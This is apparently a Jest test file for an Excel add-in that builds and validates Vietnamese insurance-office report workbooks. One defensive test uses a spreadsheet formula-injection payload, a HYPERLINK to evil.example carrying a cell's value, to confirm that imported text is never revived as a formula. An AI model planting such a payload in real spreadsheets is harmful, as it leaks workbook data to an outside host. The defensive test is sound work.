/**
 * The Office.js adapter and the pane's workflows against a fake Excel that counts syncs:
 * create, check, import, export and the report draft use a constant number of syncs (the same for
 * 10 and 1,000 unit rows), refresh keeps entered values, check finds what the rule engine finds on
 * the same values.
 */
import { buildWorkbookModel } from '../../core/layout';
import { parsePeriod } from '../../core/periods';
import { readSubmission } from '../../core/reader';
import { validateSubmission } from '../../core/rules';
import { type Issue } from '../../core/submission';
import { columnLetter } from '../../core/spreadsheet';
import { judgeWorkbookFile, readWorkbookFile, writeSubmissionWorkbook } from '../../core/xlsx';
import { ExcelAdapter } from '../../addin/excel/adapter';
import { MARK_FILL } from '../../addin/excel/marks';
import { planSheet } from '../../addin/excel/render';
import { createOrRefresh, draftReport, exportSubmission, importFiles, PaneError, runCheck, type Reference } from '../../addin/workflows';
import { reportDraftFile } from '../../addin/report-draft';
import { foldTotalEchoes } from '../../addin/issue-rows';
import JSZip from 'jszip';
import { FakeWorkbook, fakeCreateWorkbook, fakeRun } from './fake-excel';
import { localOfficeWorkbook } from '../hardening/local-office';
import { filledSubmission, gridsOfModel, localFile, realReference, syntheticReference } from './helpers';

const H1 = parsePeriod('2026-H1');

function setup() {
  const book = new FakeWorkbook();
  book.addSheet('Trang tính1');
  return { book, adapter: new ExcelAdapter(fakeRun(book), Date.now, fakeCreateWorkbook(book)) };
}

/** Syncs used by one operation. */
async function syncsOf(book: FakeWorkbook, op: () => Promise<unknown>): Promise<number> {
  const before = book.syncs;
  await op();
  return book.syncs - before;
}

const makeDraft = (ref: Reference) => (sub: Parameters<typeof reportDraftFile>[0]) => reportDraftFile(sub, ref, '2026-06-20');

const key = (i: Issue) => `${i.rule}|${i.severity}|${i.sheet}|${i.cell}|${i.message.vi}`;

describe('sync counts do not grow with the rows', () => {
  const sizes = [10, 1000];
  const counts: Record<string, number[]> = { create: [], check: [], listOnly: [], import: [], export: [], draft: [] };

  beforeAll(async () => {
    for (const locals of sizes.map((n) => n - 1)) {
      const ref = syntheticReference(locals);
      const { book, adapter } = setup();
      counts.create.push(await syncsOf(book, () => createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-10' })));
      // Faults at the first and the last unit row, so the check also writes marks.
      await book.edit('Mẫu 03', 'G10', 1);
      await book.edit('Mẫu 03', 'I10', 2);
      await book.edit('Mẫu 03', `I${9 + locals + 1}`, 2);
      // The automatic check below ExcelApi 1.19: issues listed, nothing written.
      counts.listOnly.push(await syncsOf(book, () => runCheck(adapter, ref, { mark: false })));
      expect(book.cell('Mẫu 03', `I${9 + locals + 1}`).format.fill).not.toBe(MARK_FILL.error);
      counts.check.push(await syncsOf(book, () => runCheck(adapter, ref)));
      expect(book.cell('Mẫu 03', `I${9 + locals + 1}`).format.fill).toBe(MARK_FILL.error);
      // Two local offices' files, at the first and the last unit row.
      const last = `51${String(locals).padStart(3, '0')}`;
      const files = await Promise.all(
        ['51001', last].map(async (code) => ({ name: `${code}.xlsx`, data: await localFile(ref, code, H1) })),
      );
      counts.import.push(await syncsOf(book, () => importFiles(adapter, ref, files, judgeWorkbookFile)));
      // Export and delivery as a new workbook (Excel.createWorkbook takes no sync).
      counts.export.push(
        await syncsOf(book, async () => {
          const result = await exportSubmission(adapter, ref, 'xác minh', writeSubmissionWorkbook);
          if (result.status === 'ready') await adapter.openAsNewWorkbook(result.bytes);
        }),
      );
      expect(book.createdWorkbooks).toHaveLength(1);
      // The report draft reads the sheets and writes nothing to them.
      counts.draft.push(await syncsOf(book, () => draftReport(adapter, ref, makeDraft(ref))));
    }
  }, 120_000);

  test('create 3, check 3 (2 without marks), import 3, export 3, draft 2 syncs, at 10 rows as at 1,000', () => {
    expect(counts).toEqual({ create: [3, 3], check: [3, 3], listOnly: [2, 2], import: [3, 3], export: [3, 3], draft: [2, 2] });
  });
});

describe('create', () => {
  const ref = realReference();

  test('lays the sheets out as the model says, codes as text, formulas, protection, hidden metadata', async () => {
    const { book, adapter } = setup();
    const result = await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    expect(result.refreshed).toBe(false);
    expect(book.sheets.map((s) => s.name)).toEqual(['Mẫu 03', 'Mẫu 04', 'Mục tiêu', '_meta', 'Trang tính1']);
    expect(book.sheet('_meta').visibility).toBe('VeryHidden');
    const f03 = book.sheet('Mẫu 03');
    expect(f03.protection.protected).toBe(true);
    expect(book.cell('Mẫu 03', 'B10').value).toBe('5100');
    expect(book.cell('Mẫu 03', 'B11').value).toBe('5101');
    expect(book.cell('Mẫu 03', 'F4').value).toBe('51');
    const rows = ref.registry.reportRows('51', H1).length;
    expect(book.cell('Mẫu 03', `D${10 + rows}`).formula).toBe(`=SUM(D10:D${9 + rows})`);
    expect(book.cell('Mẫu 03', 'D10').format.locked).toBe(false);
    expect(book.cell('Mẫu 03', 'D9').format.locked).toBe(true);
    expect(book.cell('Mẫu 03', 'C6').numberFormat).toBe('dd/mm/yyyy');
    expect(f03.frozen).toEqual({ top: 1, left: 1, bottom: 9, right: 3 });
    expect(f03.validations.length).toBe(1);
    expect(f03.merges.length).toBeGreaterThan(5);
    expect(f03.pageLayout).toMatchObject({ orientation: 'Landscape', paperSize: 'A4', printTitleRows: '$7:$9' });
    expect(book.activeSheet?.name).toBe('Mẫu 03');
  });

  test('a fresh report checks clean but for the blanks the rules ask for', async () => {
    const { adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    const checked = await runCheck(adapter, ref);
    expect(checked.submission?.unitCode).toBe('51');
    expect(checked.submission?.reportDate).toBe('2026-06-15');
    expect(checked.issues.filter((i) => i.severity === 'error')).toEqual([]);
  });

  test('refresh keeps every value entered and the report date', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'D11', 7);
    await book.edit('Mẫu 04', 'L10', 3);
    await book.edit('Mục tiêu', 'C8', 120);
    const result = await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null });
    expect(result.refreshed).toBe(true);
    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
    expect(book.cell('Mẫu 04', 'L10').value).toBe(3);
    expect(book.cell('Mục tiêu', 'C8').value).toBe(120);
    const checked = await runCheck(adapter, ref);
    expect(checked.submission?.reportDate).toBe('2026-06-15');
  });

  test('an empty six-month workbook becomes a monthly one: sheets the month has no place for go', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await createOrRefresh(adapter, ref, { unitCode: '51', period: parsePeriod('2026-03'), reportDate: '2026-03-20' });
    expect(book.sheets.map((s) => s.name)).toEqual(['Mẫu 03', '_meta', 'Trang tính1']);
    expect(book.cell('Mẫu 03', 'F5').value).toBe('2026-03');
  });

  test('refuses to rebuild over another unit’s figures, and changes nothing', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'D11', 7);
    const err = await createOrRefresh(adapter, ref, { unitCode: '01', period: H1, reportDate: null }).catch((e) => e);
    expect(err).toBeInstanceOf(PaneError);
    expect((err as PaneError).text.vi).toContain('sổ làm việc mới');
    expect(book.cell('Mẫu 03', 'F4').value).toBe('51');
    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
  });
});

describe('check', () => {
  const ref = realReference();

  test('finds exactly the issues the rule engine finds on the same values, the total row’s repeats folded into one note naming the unit rows', async () => {
    const sub = filledSubmission(ref.registry, '51', H1, '2026-06-15');
    const f03 = sub.forms.F03!;
    f03.rows[0].values[5] = 9; // V02: customer conferences 9 > conferences 5
    f03.rows[1].values[4] = 'mười'; // V01: text
    f03.rows[2].values[7] = 2; // V05: people 2 < groups 4
    f03.rows[3].values[16] = 4; // V13: provincial-only column on a local row
    sub.forms.F04!.rows[0].values[5] = 40; // V08, V09
    sub.targets![0].achieved = 500; // V11
    const model = buildWorkbookModel({ registry: ref.registry, unitCode: '51', period: H1, submission: sub });
    const read = readSubmission(gridsOfModel(model));
    const engine = [...read.issues, ...validateSubmission(read.submission!, ref.registry)];
    expect(new Set(engine.map((i) => i.rule))).toEqual(new Set(['V01', 'V02', 'V05', 'V08', 'V09', 'V11', 'V13']));
    // The total row (21) sums the unit rows, so the engine repeats V08 and V09 there: one mistake,
    // one error; the total gets a note per rule naming the unit row that caused it.
    const total = read.submission!.forms.F04!.total!.sheetRow;
    expect(engine.filter((i) => i.row === total).map((i) => i.rule).sort()).toEqual(['V08', 'V09']);
    const expected = foldTotalEchoes(engine, read.submission);
    const onTotal = expected.filter((i) => i.row === total);
    expect(onTotal.map((i) => `${i.rule} ${i.severity}`).sort()).toEqual(['V08 info', 'V09 info']);
    const cause = read.submission!.forms.F04!.rows[0];
    for (const i of onTotal) {
      const own = engine.find((e) => e.rule === i.rule && e.row === cause.sheetRow)!;
      expect(i.message.vi).toBe(`Hàng Tổng cộng cũng chưa đạt vì các dòng: ${cause.unitCode} – ${cause.unitName} (${own.cell}). Sửa các dòng đó thì Tổng cộng tự đúng`);
    }
    const errors = (list: readonly Issue[]) => list.filter((i) => i.severity === 'error').length;
    expect(errors(expected)).toBe(errors(engine) - 2);

    const { adapter } = setup();
    await adapter.writeSheets(model.sheets.map(planSheet), await adapter.read());
    const checked = await runCheck(adapter, ref);
    expect(checked.issues.map(key).sort()).toEqual(expected.map(key).sort());
  });

  test('marks the cells at fault and clears the marks once fixed', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'G10', 3); // (4) conferences
    await book.edit('Mẫu 03', 'I10', 5); // (6) customer conferences > (4): V02 at I10
    await book.edit('Mẫu 03', 'H10', 2000); // (5) attendees > 500 × (4): V04 warning at H10
    let checked = await runCheck(adapter, ref);
    expect(checked.issues.some((i) => i.rule === 'V02' && i.cell === 'I10')).toBe(true);
    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe(MARK_FILL.error);
    expect(book.cell('Mẫu 03', 'H10').format.fill).toBe(MARK_FILL.warning);
    expect(book.cell('Mẫu 03', 'G10').format.fill).toBe('FFFFFF');

    await book.edit('Mẫu 03', 'I10', 1);
    await book.edit('Mẫu 03', 'H10', 200);
    checked = await runCheck(adapter, ref);
    expect(checked.issues.filter((i) => i.sheet === 'Mẫu 03' && i.row === 10)).toEqual([]);
    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe('FFFFFF');
    expect(book.cell('Mẫu 03', 'H10').format.fill).toBe('FFFFFF');
  });

  test('a workbook without report sheets says so', async () => {
    const { adapter } = setup();
    const checked = await runCheck(adapter, ref);
    expect(checked.submission).toBeNull();
    expect(checked.issues.map((i) => i.rule)).toEqual(['L01']);
  });
});

describe('import from local offices', () => {
  const ref = realReference();

  test('fills the offices’ rows, refuses the rest with a reason', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'D10', 11); // the provincial office's own row is left alone
    const files = [
      { name: 'son-ha.xlsx', data: await localFile(ref, '5101', H1, '2026-06-12') },
      { name: 'son-ha-cu.xlsx', data: await localFile(ref, '5101', H1, '2026-06-01') },
      { name: 'binh-son.xlsx', data: await localFile(ref, '5102', H1) },
      { name: 'thang-5.xlsx', data: await localFile(ref, '5103', parsePeriod('2026-05'), '2026-05-20') },
      { name: 'ha-noi.xlsx', data: await localFile(ref, '0101', H1) },
      { name: 'hong.xlsx', data: new TextEncoder().encode('not a workbook') },
    ];
    const outcomes = await importFiles(adapter, ref, files, judgeWorkbookFile);
    const byFile = Object.fromEntries(outcomes.map((o) => [o.fileName, o]));
    expect(outcomes.map((o) => o.fileName)).toEqual(files.map((f) => f.name));
    expect(byFile['son-ha.xlsx'].imported).toBe(true);
    expect(byFile['son-ha.xlsx']).toMatchObject({ unitName: 'BHXH cơ sở Sơn Hà', errors: 0, warnings: 0 });
    expect(byFile['binh-son.xlsx'].imported).toBe(true);
    expect(byFile['son-ha-cu.xlsx'].reason?.vi).toContain('son-ha.xlsx');
    expect(byFile['thang-5.xlsx'].reason?.vi).toContain('kỳ 2026-05');
    expect(byFile['ha-noi.xlsx'].reason?.vi).toContain('không có hàng');
    expect(byFile['hong.xlsx'].reason?.vi).toContain('hong.xlsx');

    const expectedRow = filledSubmission(ref.registry, '51', H1).forms.F03!.rows[1].values;
    expect(book.cell('Mẫu 03', 'D11').value).toBe(expectedRow[0]);
    expect(book.cell('Mẫu 03', 'H11').value).toBe(expectedRow[4]);
    expect(book.cell('Mẫu 03', 'H12').value).toBe(expectedRow[4]);
    expect(book.cell('Mẫu 03', 'D10').value).toBe(11);
    expect(book.cell('Mẫu 03', 'D13').value).toBeNull();
    expect(book.cell('Mẫu 04', 'J11').value).toBe(filledSubmission(ref.registry, '51', H1).forms.F04!.rows[1].values[6]);
    expect(book.sheet('Mẫu 03').protection.protected).toBe(true);
  });

  test('needs the report sheets first', async () => {
    const { adapter } = setup();
    const err = await importFiles(adapter, ref, [], judgeWorkbookFile).catch((e) => e);
    expect(err).toBeInstanceOf(PaneError);
  });
});

describe('export', () => {
  const ref = realReference();

  test('with errors left asks for a reason, which then travels in the file', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'G10', 1);
    await book.edit('Mẫu 03', 'I10', 4); // V02
    const first = await exportSubmission(adapter, ref, null, writeSubmissionWorkbook);
    expect(first.status).toBe('needs-reason');
    const second = await exportSubmission(adapter, ref, '  Số liệu hội nghị khách hàng đã xác minh  ', writeSubmissionWorkbook);
    if (second.status !== 'ready') throw new Error('export not ready');
    expect(second.fileName).toBe('51_2026-H1.xlsx');
    const back = await readWorkbookFile(second.bytes, second.fileName);
    expect(back.submission?.overrideReason).toBe('Số liệu hội nghị khách hàng đã xác minh');
    expect(back.submission?.forms.F03?.rows[0].values[5]).toBe(4);
    expect(back.submission?.reportDate).toBe('2026-06-15');
  });

  test('opens as a new workbook holding exactly the exported bytes', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    const result = await exportSubmission(adapter, ref, null, writeSubmissionWorkbook);
    if (result.status !== 'ready') throw new Error('export not ready');
    await adapter.openAsNewWorkbook(result.bytes);
    expect(book.createdWorkbooks).toHaveLength(1);
    expect(Buffer.from(book.createdWorkbooks[0], 'base64').equals(Buffer.from(result.bytes))).toBe(true);
  });

  test('a clean report exports without a reason', async () => {
    const { adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    const result = await exportSubmission(adapter, ref, null, writeSubmissionWorkbook);
    expect(result.status).toBe('ready');
    if (result.status !== 'ready') return;
    const back = await readWorkbookFile(result.bytes, result.fileName);
    expect(back.submission?.overrideReason ?? null).toBeNull();
  });
});

describe('defects found in review', () => {
  const ref = realReference();

  test('refresh refuses, and changes nothing, when a sheet the reader could not place holds figures (L02)', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'D11', 7);
    await book.edit('Mẫu 04', 'D11', 9);
    // The `(1)`, `(2)`, … row blanked on both forms: neither table can be placed, so no figure is seen.
    for (const sheet of ['Mẫu 03', 'Mẫu 04']) for (let column = 1; column <= 30; column++) await book.edit(sheet, `${columnLetter(column)}9`, null);
    const err = await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null }).catch((e) => e);
    expect(err).toBeInstanceOf(PaneError);
    expect((err as PaneError).text.vi).toContain('Trang "Mẫu 03"');
    expect((err as PaneError).text.vi).toContain('L02');
    expect((err as PaneError).text.en).toContain('Sheet "Mẫu 03"');
    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
    expect(book.cell('Mẫu 04', 'D11').value).toBe(9);
  });

  test('a broken sheet with nothing below its title block is rebuilt', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    const sheet = book.sheet('Mẫu 04');
    for (const k of [...sheet.cells.keys()]) if (Number(k.split(',')[0]) > 6) sheet.cells.delete(k);
    await expect(createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null })).resolves.toEqual({ refreshed: true });
    expect(book.cell('Mẫu 04', 'D9').value).toBe('(1)');
  });

  test('import never rewrites rows it does not import: text kept text, no formula revived', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?d="&C4,"xem")';
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    // 5102's row (12) received text that looks like a formula, written defused (`'=…`).
    await importFiles(adapter, ref, [{ name: 'binh-son.xlsx', data: await localOfficeWorkbook(ref.registry, '5102', H1, (v) => [hostile, ...v.slice(1)]) }], judgeWorkbookFile);
    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
    // Then the rows either side of it.
    const files = await Promise.all(['5101', '5103'].map(async (code) => ({ name: `${code}.xlsx`, data: await localFile(ref, code, H1) })));
    const outcomes = await importFiles(adapter, ref, files, judgeWorkbookFile);
    expect(outcomes.map((o) => o.imported)).toEqual([true, true]);
    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
    // Read back as text, and a refresh keeps it text.
    const checked = await runCheck(adapter, ref);
    expect(checked.submission?.forms.F03?.rows.find((r) => r.unitCode === '5102')?.values[0]).toBe(hostile);
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null });
    expect(book.cell('Mẫu 03', 'D12')).toMatchObject({ value: hostile, formula: null });
  });

  test('the pane’s own writes do not count as edits, on hosts that do not say who changed a cell', async () => {
    const { book } = setup();
    let now = 1_000_000;
    const adapter = new ExcelAdapter(fakeRun(book), () => now);
    const edits: string[] = [];
    await adapter.watchChanges((id) => edits.push(id));
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'G10', 1);
    await book.edit('Mẫu 03', 'I10', 2);
    now += 60_000;
    await book.eventsDelivered();
    edits.length = 0;
    await runCheck(adapter, ref); // writes marks
    await book.eventsDelivered();
    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe(MARK_FILL.error);
    await importFiles(adapter, ref, [{ name: 'son-ha.xlsx', data: await localFile(ref, '5101', H1) }], judgeWorkbookFile);
    await book.eventsDelivered();
    expect(edits).toEqual([]);
    now += 60_000;
    await book.edit('Mẫu 03', 'D11', 4); // a person typing
    expect(edits).toEqual([book.sheet('Mẫu 03').id]);
  });

  test('a sheet locked with a password: a bilingual message naming it, and nothing changed', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'D11', 7);
    // The user protects Mẫu 04 again, with a password and without allowing formats.
    const f04 = book.sheet('Mẫu 04');
    f04.protection = { protected: true, options: {}, password: 'bí mật' };
    const expectLocked = (err: unknown) => {
      expect(err).toBeInstanceOf(PaneError);
      expect((err as PaneError).text.vi).toContain('Trang "Mẫu 04"');
      expect((err as PaneError).text.vi).toContain('mật khẩu');
      expect((err as PaneError).text.en).toContain('password');
    };
    expectLocked(await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null }).catch((e) => e));
    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
    expect(book.sheet('Mẫu 03').protection.protected).toBe(true);
    expect(book.sheet('Mẫu 03').merges.length).toBeGreaterThan(0);

    await book.edit('Mẫu 04', 'I10', 2); // V08 on Mẫu 04: the check must mark it
    expectLocked(await runCheck(adapter, ref).catch((e) => e));
    expectLocked(await importFiles(adapter, ref, [{ name: 'son-ha.xlsx', data: await localFile(ref, '5101', H1) }], judgeWorkbookFile).catch((e) => e));
    expect(book.cell('Mẫu 03', 'D11').value).toBe(7);
    expect(book.sheet('Mẫu 03').protection).toMatchObject({ protected: true });
    expect(f04.protection).toMatchObject({ protected: true, password: 'bí mật' });
  });

  test('a fill a person chose in Excel’s own “Bad” or “Neutral” colour survives the check', async () => {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    book.cell('Mẫu 03', 'C11').format.fill = 'FFC7CE'; // Excel's "Bad" style
    book.cell('Mẫu 03', 'C12').format.fill = 'FFEB9C'; // Excel's "Neutral" style
    await book.edit('Mẫu 03', 'G10', 1);
    await book.edit('Mẫu 03', 'I10', 2);
    await runCheck(adapter, ref);
    await book.edit('Mẫu 03', 'I10', 1);
    await runCheck(adapter, ref);
    expect(book.cell('Mẫu 03', 'I10').format.fill).toBe('FFFFFF');
    expect(book.cell('Mẫu 03', 'C11').format.fill).toBe('FFC7CE');
    expect(book.cell('Mẫu 03', 'C12').format.fill).toBe('FFEB9C');
  });
});

describe('hidden report sheets and copies of them (L13, L16, L17)', () => {
  const ref = realReference();

  /** Excel's "Move or Copy › Create a copy": the same cells under `Mẫu 03 (2)`. */
  function copySheet(book: FakeWorkbook, from: string, to: string): void {
    const source = book.sheet(from);
    const copy = book.addSheet(to);
    for (const [k, cell] of source.cells) copy.cells.set(k, structuredClone(cell));
    copy.protection = structuredClone(source.protection);
  }

  async function filledBook() {
    const { book, adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: '2026-06-15' });
    await book.edit('Mẫu 03', 'G10', 3);
    return { book, adapter };
  }

  test('the clerk’s figures in a visible copy beside the hidden official sheet: an error naming both, in the same syncs', async () => {
    const { book, adapter } = await filledBook();
    copySheet(book, 'Mẫu 03', 'Mẫu 03 (2)');
    await book.edit('Mẫu 03 (2)', 'G10', 8);
    book.sheet('Mẫu 03').visibility = 'Hidden';
    let checked: Awaited<ReturnType<typeof runCheck>> | null = null;
    expect(await syncsOf(book, async () => void (checked = await runCheck(adapter, ref)))).toBe(3);
    const l13 = checked!.issues.find((i) => i.rule === 'L13');
    expect(l13?.message.vi).toContain('"Mẫu 03 (2)" và "Mẫu 03"');
    // The figures read are the visible copy's, never the hidden sheet's.
    expect(checked!.submission!.forms.F03!.sheetName).toBe('Mẫu 03 (2)');
    expect(checked!.submission!.forms.F03!.rows[0].values[3]).toBe(8); // G10: column (4)
    // Neither refresh nor import goes on over two competing tables; nothing changes.
    await expect(createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null })).rejects.toBeInstanceOf(PaneError);
    await expect(importFiles(adapter, ref, [{ name: '5101.xlsx', data: await localFile(ref, '5101', H1) }], judgeWorkbookFile)).rejects.toThrow(/L13/);
    expect(book.cell('Mẫu 03 (2)', 'G10').value).toBe(8);
    expect(book.cell('Mẫu 03', 'G10').value).toBe(3);
    expect(book.sheet('Mẫu 03').visibility).toBe('Hidden');
  });

  test('an identical visible copy is a warning; a refresh keeps the copy (the clerk’s to delete)', async () => {
    const { book, adapter } = await filledBook();
    copySheet(book, 'Mẫu 03', 'Mẫu 03 (2)');
    const checked = await runCheck(adapter, ref);
    expect(checked.issues.filter((i) => i.rule === 'L16').map((i) => i.sheet)).toEqual(['Mẫu 03 (2)']);
    expect(checked.issues.some((i) => i.rule === 'L13')).toBe(false);
    await createOrRefresh(adapter, ref, { unitCode: '51', period: H1, reportDate: null });
    expect(book.findSheet('Mẫu 03 (2)')).toBeDefined();
    expect(book.cell('Mẫu 03', 'G10').value).toBe(3);
  });

  test('a hidden report sheet with no other is read, with a warning to unhide it', async () => {
    const { book, adapter } = await filledBook();
    book.sheet('Mẫu 04').visibility = 'Hidden';
    const checked = await runCheck(adapter, ref);
    expect(checked.issues.filter((i) => i.rule === 'L17').map((i) => i.sheet)).toEqual(['Mẫu 04']);
  });
});

describe('report draft', () => {
  const ref = realReference();

  test('needs the report sheets first', async () => {
    const { adapter } = setup();
    const err = await draftReport(adapter, ref, makeDraft(ref)).catch((e) => e);
    expect(err).toBeInstanceOf(PaneError);
    expect((err as PaneError).text.vi).toBe('Chưa có trang tính báo cáo để lập dự thảo.');
  });

  test('a local office’s own report gets no province draft, and says why', async () => {
    const { adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '5101', period: H1, reportDate: '2026-06-15' });
    const err = await draftReport(adapter, ref, makeDraft(ref)).catch((e) => e);
    expect(err).toBeInstanceOf(PaneError);
    expect((err as PaneError).text.vi).toContain('Dự thảo báo cáo được lập cho cả tỉnh, thành phố; "5101" không phải mã một tỉnh');
  });

  test('named after the unit and period, dated on the report date (today when the sheets have none)', async () => {
    const { adapter } = setup();
    await createOrRefresh(adapter, ref, { unitCode: '51', period: parsePeriod('2026-05'), reportDate: null });
    const result = await draftReport(adapter, ref, makeDraft(ref));
    expect(result.fileName).toBe('bao-cao_51_2026-05.docx');
    const xml = await (await JSZip.loadAsync(result.bytes)).file('word/document.xml')!.async('string');
    expect(xml).toContain('Quảng Ngãi, ngày 20 tháng 6 năm 2026');
    expect(xml).toContain('Kết quả công tác thông tin, truyền thông tháng 05/2026');
  });
});
